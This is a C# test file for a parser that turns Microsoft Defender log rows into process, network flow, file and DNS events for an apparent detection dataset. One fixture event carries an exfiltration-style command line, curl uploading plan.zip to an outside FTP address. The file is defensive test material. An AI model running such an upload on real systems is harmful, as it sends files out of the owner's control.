using System.Text;
using System.Text.Json.Nodes;
using Det0131.Datasets.Readers;
using Det0131.Datasets.Readers.Defender;
using Det0131.Datasets.Tests.Readers.HostLogs;
using Det0131.Datasets.Tests.Readers.Mutation;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.Defender;

/// <summary>
/// Rows written after the maker's reference of the tables, as the stream wraps them, as a query answers and as CSV. Real rows (msticpy's) are read by the checks on real logs.
/// </summary>
public sealed class DefenderTests
{
    [Fact]
    public void Parse_StreamedRows_GiveProcessesFlowsFilesAndQueries()
    {
        var events = Read(Seed()).Events;

        var start = events[0];
        Assert.Equal((EventKind.ProcessStart, "defender.process", "ws7.corp.example", Platform.Windows), (start.Kind, start.Source, start.Host, start.Platform));
        Assert.Equal(("curl.exe", @"C:\Windows\System32\curl.exe", "curl.exe", "powershell.exe"), (start.Process, start.ProcessPath, start.OriginalName, start.Parent));
        Assert.Equal(("curl.exe -T plan.zip ftp://198.51.100.7/", @"corp\ann", UserClass.Person, null), (start.CommandLine, start.User, start.UserClass, start.PrivilegeChange));
        Assert.Equal((Fixture.Micros("2026-03-01T10:00:00.123456Z"), "48213"), (start.TimeMicros, start.RecordId));

        var flow = events[1];
        Assert.Equal((EventKind.NetworkFlow, "tcp", "files.example.net", HostSide.Source, Outcome.Success), (flow.Kind, flow.Transport, flow.Domain, flow.HostSide, flow.Outcome));
        Assert.Equal(("10.0.0.7", 52817, "198.51.100.7", 21), (flow.SourceAddress, flow.SourcePort, flow.DestinationAddress, flow.DestinationPort));
        Assert.Equal(start.ProcessKey, flow.ProcessKey);
        Assert.Equal($"8120@{Fixture.Micros("2026-03-01T10:00:00.1Z")}", flow.ProcessKey);

        var inbound = events[2];
        Assert.Equal(("10.0.0.9", 50000, "10.0.0.7", 445, HostSide.Destination, "tcp"),
            (inbound.SourceAddress, inbound.SourcePort, inbound.DestinationAddress, inbound.DestinationPort, inbound.HostSide, inbound.Transport));
        Assert.Equal(start.ParentKey, inbound.ProcessKey);

        Assert.Equal((EventKind.FileAccess, @"C:\Temp\plan.zip", ".zip", 318464L, "powershell.exe"), (events[3].Kind, events[3].FilePath, events[3].FileExtension, events[3].FileBytes, events[3].Process));
        Assert.Equal((EventKind.DnsQuery, "files.example.net", "powershell.exe"), (events[4].Kind, events[4].DnsName, events[4].Process));
        Assert.Equal(("x.example.net", "TXT", "NXDOMAIN"), (events[5].DnsName, events[5].DnsType, events[5].DnsResponse));
    }

    [Fact]
    public void Parse_OtherForms_GiveTheSame()
    {
        var sink = Read(Seed());

        Assert.Equal(["action that is not read"], sink.Ignored);
        Assert.Empty(sink.Rejected);
        var mac = sink.Events[6];
        Assert.Equal((Platform.MacOS, "up.example.org", "ssl", UserClass.System, Outcome.Unknown), (mac.Platform, mac.Domain, mac.Application, mac.UserClass, mac.Outcome));
        var report = sink.Events[7];
        Assert.Equal(("mshta.exe", "cmd.exe", @"C:\Windows\System32\cmd.exe", "ws8", "mshta.exe"), (report.Process, report.Parent, report.ParentPath, report.Host, report.OriginalName));

        // The answer of a query holds the first two rows again.
        Assert.Equal(sink.Events.Take(2).Select(found => (found.Identity, found.ProcessKey)), sink.Events.Skip(8).Select(found => (found.Identity, found.ProcessKey)));
    }

    [Fact]
    public void Import_TheSameRowsAsCsv_GivesTheSameEvents()
    {
        var (json, csv) = (new List<UInt128>(), new List<(UInt128, int?, string?)>());
        LogImporter.ReadStream(new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', Seed().Take(4)))), "x.json", new ImportOptions(), found => json.Add(found.Identity));
        var report = LogImporter.ReadStream(new MemoryStream(Seeds.File("defender.csv")), "x.csv", new ImportOptions(), found => csv.Add((found.Identity, found.DestinationPort, found.Host)));

        Assert.Equal("defender", Assert.Single(report.Files).Format);
        Assert.Equal(0, report.Total.Rejected);
        Assert.Equal(json, csv.Select(found => found.Item1));
        Assert.Equal((21, "ws7.corp.example"), (csv[1].Item2, csv[1].Item3));
    }

    [Theory]
    [InlineData("Timestamp", "time missing")]
    [InlineData("RemoteIP,RemoteUrl", "remote address missing")]
    public void Parse_WithoutWhatAnEventNeeds_IsRefused(string without, string reason)
    {
        var row = JsonNode.Parse(Seed()[1])!.AsObject()["properties"]!.AsObject();
        foreach (var name in without.Split(','))
        {
            row.Remove(name);
        }

        Assert.Equal([reason], Read([row.ToJsonString()]).Rejected);
    }

    [Theory]
    [InlineData("/home/ann/x", Platform.Linux)]
    [InlineData("/Library/x", Platform.MacOS)]
    [InlineData("/usr/bin/curl", Platform.Unknown)]
    [InlineData("c:\\x\\y.exe", Platform.Windows)]
    public void Parse_PathOfTheProcess_TellsThePlatform(string path, Platform expected)
    {
        var row = new JsonObject
        {
            ["Timestamp"] = "2026-03-01T10:00:00Z", ["DeviceName"] = "a", ["ActionType"] = "ConnectionSuccess", ["RemoteIP"] = "198.51.100.1", ["RemotePort"] = "443", ["InitiatingProcessFolderPath"] = path,
        };
        var plain = row.DeepClone().AsObject();
        plain["InitiatingProcessFolderPath"] = "/usr/bin/curl";

        // The second row of the device takes what the first told.
        Assert.Equal([expected, expected], Read([row.ToJsonString(), plain.ToJsonString()]).Events.Select(found => found.Platform));
    }

    private static string[] Seed() => [.. File.ReadLines(Seeds.PathOf("defender.json"))];

    private static CollectingSink Read(string[] records) => CollectingSink.Read(DefenderFormat.Format, "x.json", records);
}
